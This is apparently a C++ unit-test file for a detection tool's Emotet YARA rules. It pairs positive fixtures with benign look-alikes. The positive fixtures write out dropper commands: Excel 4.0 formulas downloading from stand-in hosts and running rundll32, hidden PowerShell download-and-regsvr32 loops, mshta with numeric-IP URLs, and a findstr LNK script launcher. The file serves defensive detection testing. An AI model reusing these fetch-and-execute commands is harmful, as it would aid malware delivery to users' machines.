// emogate's own Emotet rules (rules/*.yar): every rule has a positive
// fixture reproducing the published campaign traits and a negative fixture
// that is its closest benign neighbour; plus zero hits on the shared corpus.
#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <set>
#include <sstream>

#include "services/yara_rules.h"
#include "unit/emotet_fixtures.h"
#include "unit/test_files.h"

using namespace emogate;
using namespace emogate::test;

namespace {

const YaraRuleSet& shipped() {
  static std::shared_ptr<const YaraRuleSet> set = [] {
    RuleSettings s;
    s.paths = {std::string(EMOGATE_SOURCE_DIR) + "/rules"};
    s.strict = true;  // our own rules must compile cleanly
    std::vector<std::string> warnings;
    auto r = YaraRuleSet::compile(s, warnings);
    for (const auto& w : warnings) ADD_FAILURE() << "shipped rules warning: " << w;
    return r;
  }();
  return *set;
}

std::set<std::string> hits(std::string_view data, const std::string& type = "binary",
                           const std::string& parent_type = "", bool truncated = false) {
  YaraVars v;
  v.type = type;
  v.parent_type = parent_type;
  v.truncated = truncated;
  auto res = shipped().scan(data, v, 5000);
  EXPECT_EQ(res.error, "");
  std::set<std::string> names;
  for (const auto& m : res.matches) names.insert(m.rule);
  return names;
}

bool hit(std::string_view data, const std::string& rule, const std::string& type = "binary",
         const std::string& parent_type = "") {
  return hits(data, type, parent_type).count(rule) > 0;
}

// --- Excel 4.0 droppers, 2022 -------------------------------------------

const char* kXlmDropper =
    "Macro1!A1 =CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"http://a-shop.example/wp-content/Zx1/\",\"..\\enu.ocx\",0,0)\n"
    "Macro1!A2 =CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"https://b-blog.example/img/Qd2/\",\"..\\enu.ocx\",0,0)\n"
    "Macro1!A3 =CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"http://c-farm.example/cgi/Rt3/\",\"..\\enu.ocx\",0,0)\n"
    "Macro1!A4 =EXEC(\"C:\\Windows\\SysWow64\\rundll32.exe ..\\enu.ocx,DllRegisterServer\")\n"
    "Macro1!A5 =HALT()\n";

TEST(EmotetRules, XlmDownloadAndRegisterPositive) {
  EXPECT_TRUE(hit(kXlmDropper, "Emotet_XLM_Download_And_Register_2022", "xlm_formulas"));
}

TEST(EmotetRules, XlmDownloadAndRegisterNegative) {
  // A legitimate XLM add-in: CALL into kernel32 and EXEC of a local tool.
  const char* benign =
      "Macro1!A1 =REGISTER(\"kernel32\",\"GetTickCount\",\"J\")\n"
      "Macro1!A2 =CALL(\"kernel32\",\"GetTickCount\",\"J\")\n"
      "Macro1!A3 =EXEC(\"notepad.exe C:\\reports\\readme.txt\")\n";
  EXPECT_TRUE(hits(benign, "xlm_formulas").empty());
}

TEST(EmotetRules, XlmFallbackUrlsPositive) {
  EXPECT_TRUE(hit(kXlmDropper, "Emotet_XLM_Fallback_URL_Chain_2022", "xlm_formulas"));
}

TEST(EmotetRules, XlmFallbackUrlsNegative) {
  // One download only: the register rule may fire, the fallback rule not.
  const char* one =
      "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"http://a.example/x/\",\"..\\a.ocx\",0,0)\n"
      "=HYPERLINK(\"https://intranet.example/help\")\n";
  EXPECT_FALSE(hit(one, "Emotet_XLM_Fallback_URL_Chain_2022", "xlm_formulas"));
}

TEST(EmotetRules, XlsVeryHiddenMacrosheetPositive) {
  auto xls = biff8_workbook(2, 1, {"urlmon", "URLDownloadToFileA", "http://a.example/x/",
                                   "..\\oxnv1.ooccxx", "C:\\Windows\\System32\\regsvr32.exe -s ..\\oxnv1.ooccxx"});
  EXPECT_TRUE(hit(xls, "Emotet_XLS_VeryHidden_Macrosheet_Downloader_2022", "ole2"));
}

TEST(EmotetRules, XlsVeryHiddenMacrosheetNegative) {
  // Same strings on a visible worksheet (an admin's how-to), and a very
  // hidden macro sheet without a downloader: neither is the dropper.
  auto visible = biff8_workbook(0, 0, {"urlmon", "URLDownloadToFileA", "regsvr32 /s mydll.dll"});
  EXPECT_FALSE(hit(visible, "Emotet_XLS_VeryHidden_Macrosheet_Downloader_2022", "ole2"));
  auto hidden_benign = biff8_workbook(2, 1, {"Quarterly totals", "SUM of column B"});
  EXPECT_TRUE(hits(hidden_benign, "ole2").empty());
}

TEST(EmotetRules, NumericIpLauncherPositive) {
  EXPECT_TRUE(hit("=EXEC(\"cmd /c m^sh^t^a h^tt^p^:/^/0xc12a24f5/cc.html\")",
                  "Emotet_Numeric_IP_URL_Launcher_2022", "xlm_formulas"));
  EXPECT_TRUE(hit("cmd /c mshta http://0056.0151.0121.0114/c.html",
                  "Emotet_Numeric_IP_URL_Launcher_2022", "xlm_formulas"));
}

TEST(EmotetRules, NumericIpLauncherNegative) {
  EXPECT_TRUE(hits("Start mshta with http://10.0.0.1/help.hta or see http://0x0.st/abc", "text").empty());
}

// --- Word VBA droppers, 2019-2021 -----------------------------------------

TEST(EmotetRules, VbaWmiHiddenProcessPositive) {
  const char* vba =
      "Sub Document_open()\n"
      "  Set p = GetObject(Replace(\"wiXXnmgmXXts:wiXXn32_XXprocess\", \"XX\", \"\"))\n"
      "  Set s = GetObject(Replace(\"wiXXnmgmts:WiXXn32_ProcessXXStartup\", \"XX\", \"\"))\n"
      "  s.ShowWindow = 0\n"
      "  p.Create Replace(cmdline, \"XX\", \"\"), Null, s, pid\n"
      "End Sub\n";
  EXPECT_TRUE(hit(vba, "Emotet_VBA_WMI_Hidden_Process_2019", "vba_source"));
}

TEST(EmotetRules, VbaWmiHiddenProcessNegative) {
  // An inventory macro querying WMI on open, no hidden process creation.
  const char* vba =
      "Sub AutoOpen()\n"
      "  Set svc = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\n"
      "  For Each os In svc.ExecQuery(\"Select * from Win32_OperatingSystem\")\n"
      "    ActiveDocument.Content.InsertAfter os.Caption\n"
      "  Next\n"
      "End Sub\n";
  EXPECT_TRUE(hits(vba, "vba_source").empty());
}

TEST(EmotetRules, VbaEncodedPowerShellPositive) {
  std::string ps = base64(
      utf16le("$urls = 'http://a.example/x/','http://b.example/y/';foreach($u in $urls){try{(New-Object Net.WebClient).DownloadFile($u,$env:TEMP+'\\\\a.exe');break}catch{}}"),
      false);
  std::string vba = "Sub Document_Open()\n  c = \"powershell -w hidden -e " + ps + "\"\nEnd Sub\n";
  EXPECT_TRUE(hit(vba, "Emotet_VBA_Encoded_PowerShell_2019", "vba_source"));
}

TEST(EmotetRules, VbaEncodedPowerShellNegative) {
  // Auto-run macro with a large embedded base64 blob of binary data: it
  // contains "JAB" prefixes by chance (about one per 260 KB) but not the
  // shape of base64-encoded UTF-16LE text.
  std::string blob = png_stub();
  std::uint64_t x = 88172645463325252ull;
  while (blob.size() < (1u << 20)) {
    x ^= x << 13, x ^= x >> 7, x ^= x << 17;
    blob.append(reinterpret_cast<const char*>(&x), 8);
  }
  std::string img = base64(blob, false);
  ASSERT_NE(img.find("JAB"), std::string::npos);
  std::string vba = "Sub AutoOpen()\n  logo = \"" + img + "\"\n  InsertLogo logo\nEnd Sub\n";
  EXPECT_TRUE(hits(vba, "vba_source").empty());
}

TEST(EmotetRules, WordFakeErrorMsgPositive) {
  std::string cmd = "cmd cmd cmd cmd /c msg %username% /v Word experienced an error trying to open the file. & "
                    "P^Ow^er^she^L^L -w hidden -ENCOD " + base64(utf16le("Set ('U'+'26sT') ([TYpe]('{3}{0}'))"), false);
  EXPECT_TRUE(hit(cmd, "Emotet_Word_Fake_Error_Msg_Launcher_2020", "vba_source"));
}

TEST(EmotetRules, WordFakeErrorMsgNegative) {
  EXPECT_TRUE(hits("Support article: Word experienced an error trying to open the file. Try repairing Office.",
                   "text").empty());
}

// --- LNK droppers, 2022 ----------------------------------------------------

TEST(EmotetRules, LnkFindstrPositive) {
  auto lnk = lnk_with_arguments(
      "/v:on /c findstr \"rSIPPswjwCtKoZy.*\" Form.pdf.lnk > \"%tmp%\\VEuIqlISMa.vbs\" & \"%tmp%\\VEuIqlISMa.vbs\"",
      "rSIPPswjwCtKoZy Dim a: Set a = CreateObject(\"WScript.Shell\")\r\n");
  EXPECT_TRUE(hit(lnk, "Emotet_LNK_Findstr_Appended_Script_2022", "lnk"));
}

TEST(EmotetRules, LnkFindstrNegative) {
  auto lnk = lnk_with_arguments("/c findstr /i \"error\" C:\\logs\\app.log");
  EXPECT_TRUE(hits(lnk, "lnk").empty());
}

const char* kPowerShellTarget = "..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

TEST(EmotetRules, LnkPowerShellPositive) {
  auto lnk = lnk_with_arguments(
      "-WindowStyle hidden -c \"$l='http://a.example/x/','https://b.example/y/';foreach($u in $l){try{iwr $u "
      "-OutFile $env:TEMP\\\\kLq.dll;regsvr32.exe /s $env:TEMP\\\\kLq.dll;break}catch{}}\"",
      {}, kPowerShellTarget);
  EXPECT_TRUE(hit(lnk, "Emotet_LNK_PowerShell_Downloader_2022", "lnk"));
}

TEST(EmotetRules, LnkPowerShellNegative) {
  auto lnk = lnk_with_arguments("-NoProfile -File C:\\Tools\\sync.ps1 -Server https://intranet.example/", {},
                                kPowerShellTarget);
  EXPECT_TRUE(hits(lnk, "lnk").empty());
}

// --- OneNote droppers, 2023 ------------------------------------------------

const char* kWsf =
    "<job id=\"a\"><script language=\"VBScript\">Set s = CreateObject(\"WScript.Shell\")\r\n"
    "s.Run \"regsvr32 /s %TEMP%\\x.dll\"</script></job>";

TEST(EmotetRules, OneNoteEmbeddedScriptPositive) {
  EXPECT_TRUE(hit(onenote_with_embedded(kWsf), "Emotet_OneNote_Embedded_Script_2023", "onenote"));
}

TEST(EmotetRules, OneNoteEmbeddedScriptNegative) {
  // A note with an embedded picture only.
  EXPECT_TRUE(hits(onenote_with_embedded(png_stub()), "onenote").empty());
}

TEST(EmotetRules, OneNoteScriptChildPositive) {
  EXPECT_TRUE(hit(kWsf, "Emotet_OneNote_Script_Child_2023", "text", "onenote"));
}

TEST(EmotetRules, OneNoteScriptChildNegative) {
  // The same script outside a OneNote section is left to other rules.
  EXPECT_FALSE(hit(kWsf, "Emotet_OneNote_Script_Child_2023", "text", "zip"));
}

// --- Padded documents, 2023 ------------------------------------------------

TEST(EmotetRules, PaddedOle2Positive) {
  std::string doc = cfb_one_stream("WordDocument", std::string(9000, 'w'));
  doc.resize(40u << 20, '\0');
  EXPECT_TRUE(hit(doc, "Emotet_Padded_OLE2_Document_2023", "ole2"));
}

TEST(EmotetRules, PaddedOle2CutShortPositive) {
  // Zipped, the padded document inflates past the ratio limit and arrives
  // truncated at a few MB: still zeros beyond what its FAT addresses.
  std::string doc = cfb_one_stream("WordDocument", std::string(9000, 'w'));
  doc.resize(3u << 20, '\0');
  EXPECT_TRUE(hits(doc, "ole2", "zip", true).count("Emotet_Padded_OLE2_Document_2023"));
}

TEST(EmotetRules, PaddedOle2CutShortNegative) {
  // Cut short but not padded: a real (truncated) document fills its FAT
  // range; and an untruncated small document with zero slack is normal.
  std::string doc = cfb_one_stream("WordDocument", std::string(9000, 'w'));
  doc.resize(3u << 20, '\0');
  EXPECT_TRUE(hits(doc, "ole2", "zip", false).empty());
  doc[0x2C] = static_cast<char>(60);  // 60 FAT sectors address 3.75 MB
  EXPECT_TRUE(hits(doc, "ole2", "zip", true).empty());
}

TEST(EmotetRules, PaddedOle2Negative) {
  // A big document whose FAT addresses all of it (csectFat = 700 sectors,
  // 700 * 128 * 512 bytes) is large, not padded; a small one is neither.
  std::string doc = cfb_one_stream("WordDocument", std::string(9000, 'w'));
  std::string small = doc;
  doc.resize(40u << 20, '\0');
  doc[0x2C] = static_cast<char>(700 & 255);
  doc[0x2D] = static_cast<char>(700 >> 8);
  EXPECT_TRUE(hits(doc, "ole2").empty());
  EXPECT_TRUE(hits(small, "ole2").empty());
}

TEST(EmotetRules, EveryRuleHasMetaAndATest) {
  // The rule files carry description, reference, date and verdict for each
  // rule; a rule added without them (or without a test above) fails here.
  namespace fs = std::filesystem;
  std::set<std::string> tested = {
      "Emotet_XLM_Download_And_Register_2022", "Emotet_XLM_Fallback_URL_Chain_2022",
      "Emotet_XLS_VeryHidden_Macrosheet_Downloader_2022", "Emotet_Numeric_IP_URL_Launcher_2022",
      "Emotet_VBA_WMI_Hidden_Process_2019", "Emotet_VBA_Encoded_PowerShell_2019",
      "Emotet_Word_Fake_Error_Msg_Launcher_2020", "Emotet_LNK_Findstr_Appended_Script_2022",
      "Emotet_LNK_PowerShell_Downloader_2022", "Emotet_OneNote_Embedded_Script_2023",
      "Emotet_OneNote_Script_Child_2023", "Emotet_Padded_OLE2_Document_2023"};
  std::set<std::string> found;
  for (const auto& e : fs::directory_iterator(std::string(EMOGATE_SOURCE_DIR) + "/rules")) {
    if (e.path().extension() != ".yar") continue;
    std::string text = slurp(e.path());
    std::size_t pos = 0;
    while ((pos = text.find("\nrule ", pos)) != std::string::npos) {
      pos += 6;
      std::string name = text.substr(pos, text.find_first_of(" :\n{", pos) - pos);
      std::size_t end = text.find("\nrule ", pos);
      std::string body = text.substr(pos, end == std::string::npos ? std::string::npos : end - pos);
      for (const char* key : {"description =", "reference = \"https://", "date =", "verdict ="})
        EXPECT_NE(body.find(key), std::string::npos) << name << " lacks " << key;
      found.insert(name);
    }
  }
  EXPECT_EQ(found, tested);
  EXPECT_EQ(shipped().rule_count(), tested.size());
}

TEST(EmotetRules, NoHitsOnSharedCorpus) {
  namespace fs = std::filesystem;
  const char* env = std::getenv("EMOGATE_SHARED");
  fs::path corpus = fs::path(env ? env : std::string(EMOGATE_SOURCE_DIR) + "/../shared") / "corpus";
  if (!fs::exists(corpus)) GTEST_SKIP() << "no shared corpus at " << corpus;
  std::size_t files = 0;
  for (const auto& e : fs::recursive_directory_iterator(corpus)) {
    if (!e.is_regular_file() || e.path().filename() == "MANIFEST.tsv") continue;
    // None of the corpus files is an Emotet dropper (the manifests describe
    // test files of parsers and filters), so any hit is a false positive.
    auto h = hits(slurp(e.path()));
    EXPECT_TRUE(h.empty()) << e.path() << ": " << *h.begin();
    ++files;
  }
  EXPECT_GT(files, 100u);
}

}  // namespace
